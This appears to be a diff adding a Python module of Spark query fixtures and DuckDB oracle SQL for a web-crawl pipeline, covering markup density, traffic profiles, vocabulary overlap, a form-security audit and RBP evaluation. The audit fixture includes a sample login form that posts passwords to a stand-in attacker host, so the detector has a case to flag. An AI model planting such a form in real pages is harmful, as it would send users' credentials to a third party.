@@ -1,0 +1,189 @@
+"""Round-3 driver-contract queries (batch 38): markup density, traffic
+seasonality, source vocabulary overlap, form-security audit, RBP eval.
+
+Fixtures derive deterministically from documents/events; every computed
+column is aliased identically in the Spark plan and the DuckDB oracle.
+"""
+
+from __future__ import annotations
+
+from pyspark.sql import DataFrame, SparkSession
+from pyspark.sql import functions as F
+
+from icrawler_spark.entry_round11 import _docs, _events
+from icrawler_spark.entry_round37 import (_ME_QRELS_SQL, _ME_RUN_SQL,
+                                          _me_qrels, _me_run)
+from icrawler_spark.operators import curation as _curation
+from icrawler_spark.operators import search as _search
+from icrawler_spark.operators import sessions as _sessions
+from icrawler_spark.operators import warc as _warc
+
+# ---------------------------------------------------------------------------
+# markup_density — tag/text structural profile
+# ---------------------------------------------------------------------------
+
+
+def _md_pages(spark, sf) -> DataFrame:
+    """Three page shapes: nav chrome (tag-dense), data table, article."""
+    d = _docs(spark, sf)
+    doc_id = F.col("doc_id")
+    body = (F.when(doc_id % 3 == 0,
+                   F.lit("<div><ul><li>a</li><li>b</li><li>c</li></ul>"
+                         "<nav><span></span><span></span></nav></div>"))
+            .when(doc_id % 3 == 1,
+                  F.lit("<table><tr><td>1</td><td>2</td></tr>"
+                        "<tr><td>3</td><td>4</td></tr></table>"))
+            .otherwise(F.concat(F.lit("<p>"),
+                                F.substring(F.col("text"), 1, 200),
+                                F.lit("</p>"))))
+    return d.select(F.concat(F.lit("u"), doc_id.cast("string")).alias("url"),
+                    body.alias("body"))
+
+
+_MD_PAGES_SQL = """
+  SELECT 'u' || doc_id AS url,
+    CASE doc_id % 3
+      WHEN 0 THEN '<div><ul><li>a</li><li>b</li><li>c</li></ul>'
+        || '<nav><span></span><span></span></nav></div>'
+      WHEN 1 THEN '<table><tr><td>1</td><td>2</td></tr>'
+        || '<tr><td>3</td><td>4</td></tr></table>'
+      ELSE '<p>' || substr(text, 1, 200) || '</p>' END AS body
+  FROM documents
+"""
+
+
+def q_markup_density(spark: SparkSession, sf: str) -> DataFrame:
+    """operators/warc.markup_density: tag/text/cell/item counts with an
+    integer tag_heavy verdict — scan-stage regexp, zero shuffle."""
+    return _warc.markup_density(_md_pages(spark, sf))
+
+
+def _markup_density_sql() -> str:
+    return _warc.markup_density_sql(_MD_PAGES_SQL)
+
+
+# ---------------------------------------------------------------------------
+# traffic_profile — dow × hod seasonality
+# ---------------------------------------------------------------------------
+
+_TP_EVENTS_SQL = "SELECT ts FROM events"
+
+
+def q_traffic_profile(spark: SparkSession, sf: str) -> DataFrame:
+    """operators/sessions.traffic_profile: arithmetic dow/hod from epoch
+    µs (engine date functions disagree on dow conventions) — ONE groupBy
+    over ≤168 cells."""
+    return _sessions.traffic_profile(_events(spark, sf).select("ts"))
+
+
+def _traffic_profile_sql() -> str:
+    return _sessions.traffic_profile_sql(_TP_EVENTS_SQL)
+
+
+# ---------------------------------------------------------------------------
+# vocab_overlap — pairwise source vocabulary Jaccard
+# ---------------------------------------------------------------------------
+
+_VO_TOPK = 50
+
+
+def q_vocab_overlap(spark: SparkSession, sf: str) -> DataFrame:
+    """operators/curation.source_vocab_overlap: Jaccard of per-source
+    top-k vocab — pairwise stage on the (sources·k)-row table only."""
+    return _curation.source_vocab_overlap(
+        _docs(spark, sf).select("source", "text"), top_k=_VO_TOPK)
+
+
+def _vocab_overlap_sql() -> str:
+    return _curation.source_vocab_overlap_sql(
+        "SELECT source, text FROM documents", top_k=_VO_TOPK)
+
+
+# ---------------------------------------------------------------------------
+# form_security — credential-form audit
+# ---------------------------------------------------------------------------
+
+
+def _fs_pages(spark, sf) -> DataFrame:
+    """Mix of: plain pages, same-host login forms, http logins (insecure),
+    and forms posting passwords off-host (exfil)."""
+    d = _docs(spark, sf)
+    doc_id = F.col("doc_id")
+    host = F.concat(F.lit("h"), (doc_id % 8).cast("string"), F.lit(".test"))
+    scheme = F.when(doc_id % 4 == 0, F.lit("http://")) \
+        .otherwise(F.lit("https://"))
+    form = (F.when(doc_id % 6 == 0,
+                   F.lit('<form action="https://collect.evil.example/p">'
+                         '<input type="password"></form>'))
+            .when(doc_id % 2 == 0,
+                  F.concat(F.lit('<FORM action="https://'), host,
+                           F.lit('/login"><input type="password">'
+                                 '</form>')))
+            .otherwise(F.lit("<p>no forms</p>")))
+    return d.select(
+        F.concat(scheme, host, F.lit("/p"), doc_id.cast("string"))
+        .alias("url"),
+        form.alias("body"))
+
+
+_FS_PAGES_SQL = """
+  SELECT CASE WHEN doc_id % 4 = 0 THEN 'http://' ELSE 'https://' END
+    || 'h' || (doc_id % 8) || '.test/p' || doc_id AS url,
+    CASE WHEN doc_id % 6 = 0
+      THEN '<form action="https://collect.evil.example/p">'
+        || '<input type="password"></form>'
+      WHEN doc_id % 2 = 0
+      THEN '<FORM action="https://h' || (doc_id % 8)
+        || '.test/login"><input type="password"></form>'
+      ELSE '<p>no forms</p>' END AS body
+  FROM documents
+"""
+
+
+def q_form_security(spark: SparkSession, sf: str) -> DataFrame:
+    """operators/warc.form_security: password/off-host form tells — all
+    scan-stage regexp/array exprs."""
+    return _warc.form_security(_fs_pages(spark, sf))
+
+
+def _form_security_sql() -> str:
+    return _warc.form_security_sql(_FS_PAGES_SQL)
+
+
+# ---------------------------------------------------------------------------
+# rbp_eval — rank-biased precision over the map_eval fixture
+# ---------------------------------------------------------------------------
+
+_RBP_P = 0.8
+
+
+def q_rbp_eval(spark: SparkSession, sf: str) -> DataFrame:
+    """operators/search.rbp_eval: (1−p)·Σ p^(rank−1) over the same
+    run/qrels fixture as map_eval — the patience-model companion
+    metric."""
+    return _search.rbp_eval(_me_run(spark, sf), _me_qrels(spark, sf),
+                            p=_RBP_P)
+
+
+def _rbp_eval_sql() -> str:
+    return _search.rbp_eval_sql(_ME_RUN_SQL, _ME_QRELS_SQL, p=_RBP_P)
+
+
+def queries44():
+    return {
+        "markup_density": q_markup_density,
+        "traffic_profile": q_traffic_profile,
+        "vocab_overlap": q_vocab_overlap,
+        "form_security": q_form_security,
+        "rbp_eval": q_rbp_eval,
+    }
+
+
+def oracle_sql44():
+    return {
+        "markup_density": _markup_density_sql(),
+        "traffic_profile": _traffic_profile_sql(),
+        "vocab_overlap": _vocab_overlap_sql(),
+        "form_security": _form_security_sql(),
+        "rbp_eval": _rbp_eval_sql(),
+    }
